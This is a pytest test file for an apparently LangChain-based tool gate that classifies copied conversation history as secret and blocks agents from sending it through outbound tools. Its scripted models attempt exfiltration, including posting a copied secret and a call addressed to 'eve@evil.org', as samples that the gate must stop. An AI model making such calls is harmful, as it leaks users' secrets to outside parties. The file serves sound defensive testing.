"""What the model of another conversation said has no data class: where zones are in use it counts as secret."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from langchain.agents import create_agent
from langchain_core.messages import AIMessage, BaseMessage, HumanMessage, ToolMessage
from langgraph.checkpoint.memory import InMemorySaver

from tests.support import Recorder, call, chat, says
from toolgate_langchain import (
    DataClass,
    FlowPolicy,
    Surface,
    Tier,
    ToolGate,
    ToolGateMiddleware,
    ToolProfile,
    TrustZone,
    Verdict,
)
from toolgate_langchain.errors import ConfigurationError, DataAboveZoneError
from toolgate_langchain.testing import ScriptedModel

COPIED: list[BaseMessage] = [HumanMessage("The key?"), AIMessage("It is sesame."), HumanMessage("Post it")]
SENDS = ToolProfile(tier=Tier.ROUTINE, egress="open", zone=TrustZone.EXTERNAL_ANYWHERE)
READS = ToolProfile(tier=Tier.READ_ONLY, egress="none", results_trusted=True, data_class=DataClass.PUBLIC)


def a_gate(*policies: FlowPolicy) -> ToolGate:
    surfaces = [Surface("chat", routine=Verdict.ALLOW)]
    return ToolGate(surfaces=surfaces, argument_policies=list(policies or [FlowPolicy()]))


@pytest.mark.parametrize("asynchronous", [False, True], ids=["sync", "async"])
def test_the_models_words_in_a_copied_history_reach_no_model_below_secret(asynchronous: bool) -> None:
    talk = chat([AIMessage("Hello.")], [Recorder().tool("send", SENDS)], gate=a_gate(), asynchronous=asynchronous,
                zone=TrustZone.EXTERNAL_ANYWHERE)  # fmt: skip
    with pytest.raises(DataAboveZoneError, match=r"secret.*FlowPolicy\(history=DataClass\.BUSINESS\)"):
        talk.invoke({"messages": COPIED})
    assert talk.model.seen == []


def test_the_models_words_in_a_copied_history_are_handed_to_no_tool_outside() -> None:
    ran = Recorder()
    script = [says(call("send", "s", body="sesame")), AIMessage("No.")]
    talk = chat(script, [ran.tool("send", SENDS)], gate=a_gate(), zone=TrustZone.LOCAL)
    talk.invoke({"messages": COPIED})
    assert ran.names == [] and talk.requests == [] and talk.result("s")


def test_what_only_reads_inside_of_the_house_is_as_free_as_ever() -> None:
    ran = Recorder()
    script = [says(call("read", "r")), AIMessage("Read.")]
    talk = chat(script, [ran.tool("read", READS)], gate=a_gate(), zone=TrustZone.LOCAL)
    talk.invoke({"messages": COPIED})
    assert ran.names == ["read"]


def test_the_persons_own_words_and_what_this_gate_saw_said_are_not_from_elsewhere() -> None:
    ran = Recorder()
    script = [says(call("read", "r")), AIMessage("Read."), AIMessage("Still here.")]
    talk = chat(script, [ran.tool("read", READS)], gate=a_gate(), checkpointer=InMemorySaver(),
                zone=TrustZone.EXTERNAL_ANYWHERE)  # fmt: skip
    talk.invoke({"messages": [HumanMessage("Hello"), HumanMessage("Read it")]})
    talk.say("And now?")
    assert ran.names == ["read"] and len(talk.model.seen) == 3


class TestAnApplicationThatSendsTheWholeHistoryEachTimeAndSaysWhatItCanHold:
    WHOLE: tuple[BaseMessage, ...] = (
        HumanMessage("Read it"),
        says(call("read", "r1")),
        ToolMessage("what it says", name="read", tool_call_id="r1"),
        AIMessage("It says so."),
        HumanMessage("And now?"),
    )

    @pytest.mark.parametrize("thread", [True, False], ids=["thread", "no thread"])
    def test_history_of_that_class_reaches_a_model_whose_zone_may_have_it(self, thread: bool) -> None:
        model = ScriptedModel(script=[AIMessage("Hello."), AIMessage("Still here.")])
        alone = ToolGate(surfaces=[Surface("cron", attended=False)],
                         argument_policies=[FlowPolicy(history=DataClass.BUSINESS)])  # fmt: skip
        gated = ToolGateMiddleware(alone, surface="cron", zone=TrustZone.EXTERNAL_ANYWHERE)
        agent: Any = create_agent(model, [Recorder().tool("read", READS)], middleware=[gated])
        config: dict[str, Any] = {"configurable": {"thread_id": "1"}} if thread else {}
        agent.invoke({"messages": list(self.WHOLE)}, config)
        agent.invoke({"messages": [*self.WHOLE, AIMessage("Hello."), HumanMessage("Go on")]}, config)
        assert len(model.seen) == 2

    @pytest.mark.parametrize("history", [None, DataClass.DIAGNOSTICS, DataClass.SECRET])
    def test_of_a_class_above_the_zone_or_of_none_it_does_not(self, history: DataClass | None) -> None:
        gate = a_gate(FlowPolicy(history=history))
        talk = chat([AIMessage("Hello.")], [], gate=gate, zone=TrustZone.EXTERNAL_ANYWHERE)
        with pytest.raises(DataAboveZoneError):
            talk.invoke({"messages": list(self.WHOLE)})
        assert talk.model.seen == []

    def test_of_two_policies_the_one_that_declares_more_counts_and_one_that_declares_nothing_is_secret(self) -> None:
        for other in (FlowPolicy(history=DataClass.SECRET), FlowPolicy()):
            gate = a_gate(FlowPolicy(history=DataClass.PUBLIC), other)
            talk = chat([AIMessage("Hello.")], [], gate=gate, zone=TrustZone.EXTERNAL_ANYWHERE)
            with pytest.raises(DataAboveZoneError):
                talk.invoke({"messages": list(self.WHOLE)})

    def test_it_is_as_untrusted_as_ever(self) -> None:
        ran = Recorder()
        script = [says(call("post", "p", to="eve@evil.org")), AIMessage("Done.")]
        profile = ToolProfile(tier=Tier.ROUTINE, egress="none")
        gate = a_gate(FlowPolicy(history=DataClass.PUBLIC))
        talk = chat(script, [ran.tool("post", profile)], gate=gate)
        talk.invoke({"messages": list(self.WHOLE)})
        assert ran.names == [] and talk.request.tool_call_id == "p"

    def test_what_is_read_then_has_the_class_of_its_tool(self) -> None:
        ran = Recorder()
        secret = replace(READS, data_class=DataClass.SECRET)
        gate = a_gate(FlowPolicy(history=DataClass.PUBLIC))
        talk = chat([says(call("read", "r2")), AIMessage("No.")], [ran.tool("read", secret)], gate=gate,
                    zone=TrustZone.EXTERNAL_ANYWHERE)  # fmt: skip
        talk.invoke({"messages": list(self.WHOLE)})
        assert ran.names == []

    @pytest.mark.parametrize("history", ["business", True, 0, [DataClass.PUBLIC]])
    def test_what_is_no_class_is_an_error_and_no_guess(self, history: Any) -> None:
        with pytest.raises(ConfigurationError, match="history is"):
            FlowPolicy(history=history)
